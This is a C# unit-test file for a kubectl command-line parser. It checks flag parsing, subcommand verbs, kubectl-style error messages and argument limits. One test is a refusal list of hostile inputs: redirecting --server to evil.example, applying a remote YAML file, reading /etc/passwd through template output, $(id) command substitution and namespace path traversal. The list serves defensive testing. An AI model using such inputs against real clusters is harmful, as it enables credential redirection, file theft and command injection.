using Kubently.Kubectl.CommandLine;

namespace Kubently.Kubectl.Tests.CommandLine;

public sealed class CommandLineParserTests
{
    [Theory]
    [InlineData("get pods -Aowide", "wide", true)]
    [InlineData("get pods -A -o=wide", "wide", true)]
    [InlineData("get pods --all_namespaces --output wide", "wide", true)]
    [InlineData("get -o yaml pods -o wide", "wide", false)]
    [InlineData("get pods -A=false -owide", "wide", false)]
    public void Flags_are_read_as_pflag_reads_them(string line, string output, bool everywhere)
    {
        var command = Parsed(line);
        Assert.Equal(["pods"], command.Words);
        Assert.Equal(output, command.Text("output"));
        Assert.Equal(everywhere, command.AllNamespaces);
    }

    [Fact]
    public void Lists_are_split_and_added_up()
    {
        Assert.Equal(["a", "b", "c,d"], Parsed("get pods -L a,b -L \"c,d\"").List("label-columns"));
    }

    [Fact]
    public void A_subcommand_is_part_of_the_verb()
    {
        var command = Parsed("-n shop rollout status deploy/web --timeout=1m30s");
        Assert.Equal("rollout status", command.Verb.Path);
        Assert.Equal("shop", command.Namespace);
        Assert.Equal(TimeSpan.FromSeconds(90), command.Duration("timeout"));
        Assert.False(command.Verb.Mutates);
        Assert.True(Parsed("rollout restart deploy/web").Verb.Mutates);
    }

    [Theory]
    [InlineData("get pods --server=https://evil.example", "grammar.unsupported-flag")]
    [InlineData("get pods -shttps://evil.example", "grammar.unsupported-flag")]
    [InlineData("get pods --insecure_skip_tls_verify", "grammar.unsupported-flag")]
    [InlineData("get pods -Av9", "grammar.unsupported-flag")]
    [InlineData("describe pods --raw /api", "grammar.unsupported-flag")]
    [InlineData("apply -f http://evil.example/x.yaml", "grammar.filename")]
    [InlineData("get pods -o go-template-file=/etc/passwd", "grammar.file-output")]
    [InlineData("-n get delete pods --all", "grammar.ambiguous-verb")]
    [InlineData("get pods -- --raw", "grammar.dashes")]
    [InlineData("get pods $(id)", "grammar.word")]
    [InlineData("get pods -n ../kube-system", "grammar.namespace")]
    [InlineData("edit deploy web", "verb.not-offered")]
    [InlineData("cluster-info dump", "verb.not-offered")]
    public void What_does_not_exist_here_is_refused_by_name(string line, string rule)
    {
        var malformed = Malformed(line);
        Assert.Equal(rule, malformed.Rule);
        Assert.Null(malformed.KubectlStderr);
    }

    [Fact]
    public void An_unknown_flag_names_the_nearest_one()
    {
        var malformed = Malformed("get pods --feild-selector=a=b");
        Assert.Equal("`get` has no flag --feild-selector. The nearest one is --field-selector.", malformed.Message);
        Assert.Equal("error: unknown flag: --feild-selector\nSee 'kubectl get --help' for usage.\n", malformed.KubectlStderr);
    }

    [Theory]
    [InlineData("logs web --since=5", "error: invalid argument \"5\" for \"--since\" flag: time: missing unit in duration \"5\"\nSee 'kubectl logs --help' for usage.\n")]
    [InlineData("logs web --tail=99999999999999999999", "error: invalid argument \"99999999999999999999\" for \"--tail\" flag: strconv.ParseInt: parsing \"99999999999999999999\": value out of range\nSee 'kubectl logs --help' for usage.\n")]
    [InlineData("logs web --since=99999999999999999999h", "error: invalid argument \"99999999999999999999h\" for \"--since\" flag: time: invalid duration \"99999999999999999999h\"\nSee 'kubectl logs --help' for usage.\n")]
    [InlineData("logs web --since=2562047h48m", "error: invalid argument \"2562047h48m\" for \"--since\" flag: time: invalid duration \"2562047h48m\"\nSee 'kubectl logs --help' for usage.\n")]
    [InlineData("get pods --request-timeout=99999999999999999999s", "error: Invalid timeout value. Timeout must be a single integer in seconds, or an integer followed by a corresponding time unit (e.g. 1s | 2m | 3h)\n")]
    [InlineData("get pods -A=maybe", "error: invalid argument \"maybe\" for \"-A, --all-namespaces\" flag: strconv.ParseBool: parsing \"maybe\": invalid syntax\nSee 'kubectl get --help' for usage.\n")]
    [InlineData("get pods -Azx", "error: unknown shorthand flag: 'z' in -zx\nSee 'kubectl get --help' for usage.\n")]
    public void What_kubectl_refuses_carries_its_words(string line, string stderr) => Assert.Equal(stderr, Malformed(line).KubectlStderr);

    [Fact]
    public void Arguments_are_bounded()
    {
        Assert.Equal("grammar.too-many-arguments", Rule([.. Enumerable.Repeat("get", 65)]));
        Assert.Equal("grammar.argument-too-long", Rule("get", new string('a', 4097)));
        Assert.Equal("grammar.too-long", Rule([.. Enumerable.Repeat(new string('a', 4000), 9)]));
        Assert.Equal("grammar.control-character", Rule("get", "pods\0"));
        Assert.Equal("grammar.control-character", Rule("get", "pods\ud800"));
        Assert.Equal("grammar.empty", Rule());
    }

    private static KubectlCommand Parsed(string line) => Assert.IsType<ParseOutcome.Parsed>(CommandLineParser.Parse([.. line.Split(' ')])).Command;

    private static ParseOutcome.Malformed Malformed(string line) => Assert.IsType<ParseOutcome.Malformed>(CommandLineParser.Parse([.. line.Split(' ')]));

    private static string Rule(params string[] args) => Assert.IsType<ParseOutcome.Malformed>(CommandLineParser.Parse([.. args])).Rule;
}
